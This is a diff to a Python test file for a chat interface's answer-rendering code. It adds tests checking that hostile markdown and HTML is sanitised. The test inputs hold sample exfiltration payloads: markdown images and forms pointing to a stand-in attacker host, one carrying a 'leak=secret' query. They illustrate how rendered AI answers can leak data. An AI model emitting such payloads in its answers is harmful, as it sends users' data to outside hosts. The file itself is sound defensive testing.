@@ -2,8 +2,20 @@
 
 from __future__ import annotations
 
+import html
+
 from gptbuilder.history import Message
-from gptbuilder.ui.render import answer_content, avatar_text, chat_messages, esc, md_text, sources_markdown, step_messages
+from gptbuilder.ui.render import (
+    answer_content,
+    answer_html,
+    avatar_text,
+    chat_messages,
+    esc,
+    md_text,
+    sources_markdown,
+    step_messages,
+)
+from tests.server.test_sanitize import active_parts
 
 
 def test_html_is_escaped_for_html_and_markdown():
@@ -50,3 +62,29 @@ def test_shown_messages_map_back_to_stored_answers_for_feedback():
     ])
     assert [m["role"] for m in shown] == ["user", "assistant", "assistant"]
     assert ids == [None, None, 2]
+
+
+def test_answers_are_html_under_the_widgets_policy():
+    exfil = "Done ![chart](https://attacker.example/p.png?leak=secret) <form action=https://attacker.example/f><input></form>"
+    shown = answer_html(exfil)
+    assert active_parts(shown) == []
+    assert "attacker.example/p.png" not in shown and "<form" not in shown and "&lt;form" in shown
+    assert answer_html("**bold** [docs](https://example.com)") == (
+        '<p><strong>bold</strong> <a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">docs</a></p>'
+    )
+
+
+def test_answer_html_is_one_line_with_code_newlines_kept():
+    shown = answer_html("Steps:\n\n```\na\n\nb\n```\n\n- one\n- two")
+    assert "\n" not in shown
+    assert "<pre><code>a&#10;&#10;b&#10;</code></pre>" in shown and "<li>two</li>" in shown
+    assert html.unescape(shown).count("\n") >= 4
+
+
+def test_stored_answers_are_shown_as_safe_html_and_user_text_as_written():
+    shown, _ = chat_messages([
+        Message(1, "user", "show me"),
+        Message(2, "assistant", "![x](https://attacker.example/?q=1)<form><button>Go</button></form>", {}),
+    ])
+    assert shown[0]["content"] == "show me"
+    assert active_parts(shown[1]["content"]) == [] and "attacker.example" not in shown[1]["content"]
